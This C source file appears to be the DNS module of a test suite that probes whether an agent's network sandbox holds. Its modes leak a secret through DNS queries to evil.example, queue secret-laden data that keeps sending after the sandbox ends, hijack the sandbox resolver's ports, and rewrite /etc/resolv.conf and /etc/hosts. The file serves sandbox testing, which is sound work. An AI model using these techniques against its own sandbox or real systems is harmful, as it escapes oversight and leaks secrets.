/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Names: carrying data out in questions, and putting an address of the
 * attacker's choice under a name that the policy allows.
 */
#define _GNU_SOURCE
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static struct sockaddr_in at_port(const struct in_addr *addr, uint16_t port)
{
	return (struct sockaddr_in){.sin_family = AF_INET,
				    .sin_addr = *addr,
				    .sin_port = htons(port)};
}

static void tunnel_name(const struct scene *s, char *buf, size_t size,
			const char *domain)
{
	snprintf(buf, size, "%s.%s", s->secret, domain);
}

/* THROUGH when somebody who is not the sandbox's resolver answered. */
static enum verdict ask(const struct scene *s, const struct sockaddr_in *server,
			int type, const char *domain)
{
	struct in_addr addr;
	char name[256];
	int rcode;

	tunnel_name(s, name, sizeof(name), domain);
	rcode = dns_ask(server, type, name, &addr);
	if (rcode < 0)
		return failed("query");
	if (rcode != 0 || addr.s_addr != s->target4.sin_addr.s_addr)
		return say(REFUSED, "%s: response code %d", name, rcode);
	return say(THROUGH, "%s: answered by the target", name);
}

static enum verdict other_udp(const struct scene *s)
{
	struct sockaddr_in server = at_port(&s->target4.sin_addr, 53);

	return ask(s, &server, SOCK_DGRAM, "evil.example");
}

static enum verdict other_tcp(const struct scene *s)
{
	struct sockaddr_in server = at_port(&s->target4.sin_addr, 53);

	return ask(s, &server, SOCK_STREAM, "evil.example");
}

static enum verdict other6(const struct scene *s, int type)
{
	struct sockaddr_in6 server = s->target6;
	uint8_t query[514];
	char name[256];
	size_t len, skip = type == SOCK_STREAM ? 0 : 2;
	int fd = new_socket(AF_INET6, type, 0);

	server.sin6_port = htons(53);
	tunnel_name(s, name, sizeof(name), "evil.example");
	len = dns_message(query + 2, sizeof(query) - 2, 1, name, NULL);
	query[0] = 0;
	query[1] = (uint8_t)len;
	if (connect(fd, (const void *)&server, sizeof(server)) != 0 ||
	    send(fd, query + skip, len + 2 - skip, 0) < 0 ||
	    recv(fd, query + skip, sizeof(query) - skip, 0) < 12)
		return failed("query");
	return (query[5] & 15) == 0 ? say(THROUGH, "%s: answered", name)
				    : say(REFUSED, "%s: response code %d", name,
					  query[5] & 15);
}

static enum verdict other6_udp(const struct scene *s)
{
	return other6(s, SOCK_DGRAM);
}

static enum verdict other6_tcp(const struct scene *s)
{
	return other6(s, SOCK_STREAM);
}

/* Without a connect(2) that somebody could refuse. */
static enum verdict other_sendmsg(const struct scene *s)
{
	struct sockaddr_in server = at_port(&s->target4.sin_addr, 53);
	uint8_t query[512];
	struct iovec iov = {.iov_base = query};
	struct msghdr msg = {.msg_name = &server,
			     .msg_namelen = sizeof(server),
			     .msg_iov = &iov,
			     .msg_iovlen = 1};
	char name[256];
	int fd = new_socket(AF_INET, SOCK_DGRAM, 0);

	tunnel_name(s, name, sizeof(name), "evil.example");
	iov.iov_len = dns_message(query, sizeof(query), 1, name, NULL);
	if (sendmsg(fd, &msg, 0) < 0)
		return failed("sendmsg");
	if (recv(fd, query, sizeof(query), 0) < 12)
		return failed("recv");
	return (query[3] & 15) == 0 ? say(THROUGH, "%s: answered", name)
				    : say(REFUSED, "%s: response code %d", name,
					  query[3] & 15);
}

/*
 * Connections whose first question waits for a slow upstream, with much behind
 * it; and then the sandbox ends. The kernel goes on sending what is left. Where
 * to, when nothing redirects it any longer?
 */
static enum verdict orphans(const struct scene *s)
{
	enum { CONNECTIONS = 8 };
	struct sockaddr_in server = at_port(&s->target4.sin_addr, 53);
	static uint8_t text[65536];
	size_t len = dns_message(text + 2, 512, 1, s->name, NULL);
	ssize_t n, sum = 0;

	text[1] = (uint8_t)len;
	for (size_t i = len + 2; i < sizeof(text); i++)
		text[i] = (uint8_t)s->secret[i % strlen(s->secret)];
	for (int i = 0; i < CONNECTIONS; i++) {
		int fd = new_socket(AF_INET, SOCK_STREAM, 0);

		if (connect(fd, (const void *)&server, sizeof(server)) != 0)
			return failed("connect");
		while ((n = send(fd, text, sizeof(text), MSG_DONTWAIT)) > 0)
			sum += n;
	}
	return say(THROUGH, "%zd bytes are on their way", sum);
}

/* To the sandbox's own server, which knows whom to ask for evil.example. */
static enum verdict tunnel(const struct scene *s)
{
	struct sockaddr_in server;

	if (!dns_server(&server))
		return say(UNTRIED, "/etc/resolv.conf: no nameserver");
	return ask(s, &server, SOCK_DGRAM, "evil.example");
}

/* ---------------------------- an address under an allowed name */

/* Whatever the name has become: go there. */
static enum verdict follow(const struct scene *s,
			   const struct sockaddr_in *server)
{
	struct in_addr addr;
	struct sockaddr_in to = s->target4;
	int rcode = dns_ask(server, SOCK_DGRAM, s->name, &addr);
	int fd = new_socket(AF_INET, SOCK_STREAM, 0);

	if (rcode == 0 && addr.s_addr == to.sin_addr.s_addr)
		printf("%s is %s now\n", s->name, inet_ntoa(addr));
	/* believed or not: the shim may have */
	to.sin_port = s->allowed4.sin_port;
	return connect_to(s, fd, &to, sizeof(to));
}

/* The agent's own server: each question for the name gets the target. */
static void answer_for_ever(const struct scene *s, int fd)
{
	struct sockaddr_in peer;
	socklen_t len = sizeof(peer);
	uint8_t query[512], answer[512];

	while (recvfrom(fd, query, sizeof(query), 0, (void *)&peer, &len) > 0 ||
	       errno == EAGAIN) {
		size_t n = dns_message(answer, sizeof(answer),
				       (uint16_t)(query[0] << 8 | query[1]),
				       s->name, &s->target4.sin_addr);

		sendto(fd, answer, n, 0, (void *)&peer, len);
	}
}

static enum verdict own(const struct scene *s, uint16_t port)
{
	struct in_addr here = {htonl(INADDR_LOOPBACK)};
	struct sockaddr_in server = at_port(&here, port);
	int fd = new_socket(AF_INET, SOCK_DGRAM, 0);
	enum verdict verdict;
	pid_t child;

	if (bind(fd, (const void *)&server, sizeof(server)) != 0)
		return failed("bind the server");
	child = fork();
	if (child == 0) {
		answer_for_ever(s, fd);
		_exit(0);
	}
	close(fd);
	verdict = follow(s, &server);
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	return verdict;
}

static enum verdict own_53(const struct scene *s)
{
	return own(s, 53);
}

static enum verdict own_5353(const struct scene *s)
{
	return own(s, 5353);
}

/* Sockets of the sandbox's own machinery are where nobody else bound one. */
static void take_ports(const struct scene *s)
{
	FILE *table = fopen("/proc/net/udp", "re");
	const int on = 1;
	unsigned int port;
	char line[512];

	while (table && fgets(line, sizeof(line), table)) {
		struct in_addr here = {htonl(INADDR_LOOPBACK)};
		struct sockaddr_in server;
		int fd;

		if (sscanf(line, "%*d: %*[0-9A-F]:%x", &port) != 1)
			continue;
		server = at_port(&here, (uint16_t)port);
		fd = new_socket(AF_INET, SOCK_DGRAM, 0);
		setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
		setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &on, sizeof(on));
		if (bind(fd, (const void *)&server, sizeof(server)) == 0 &&
		    fork() == 0) {
			answer_for_ever(s, fd);
			_exit(0);
		}
		close(fd);
	}
	if (table)
		fclose(table);
}

/* Become the sandbox's resolver: where it listens, or where it is asked. */
static enum verdict takeover(const struct scene *s)
{
	struct in_addr here = {htonl(INADDR_LOOPBACK)};
	struct sockaddr_in server = at_port(&here, 53);

	take_ports(s);
	return follow(s, &server);
}

/* The server is the attacker's, outside. */
static enum verdict theirs(const struct scene *s)
{
	struct sockaddr_in server = at_port(&s->target4.sin_addr, 53);

	return follow(s, &server);
}

/* As a libc would: by the file, which the agent wrote itself. */
static enum verdict by_file(const struct scene *s, const char *path,
			    const char *before, const char *after)
{
	char text[INET_ADDRSTRLEN];
	struct sockaddr_in server = at_port(&s->target4.sin_addr, 53);
	FILE *file = fopen(path, "we");

	inet_ntop(AF_INET, &s->target4.sin_addr, text, sizeof(text));
	/* a file that it can't write is no reason not to try */
	if (file) {
		fprintf(file, "%s%s %s\n", before, text, after);
		fclose(file);
	}
	return follow(s, &server);
}

static enum verdict resolv_conf(const struct scene *s)
{
	return by_file(s, "/etc/resolv.conf", "nameserver ", "");
}

static enum verdict hosts(const struct scene *s)
{
	return by_file(s, "/etc/hosts", "", s->name);
}

const struct attack attack_dns = {
	"dns",
	(const struct mode[]){{"other-udp", other_udp},
			      {"other-tcp", other_tcp},
			      {"other6-udp", other6_udp},
			      {"other6-tcp", other6_tcp},
			      {"other-sendmsg", other_sendmsg},
			      {"orphans", orphans},
			      {"tunnel", tunnel},
			      {"own-53", own_53},
			      {"own-5353", own_5353},
			      {"takeover", takeover},
			      {"theirs", theirs},
			      {"resolv.conf", resolv_conf},
			      {"hosts", hosts},
			      {0}},
};
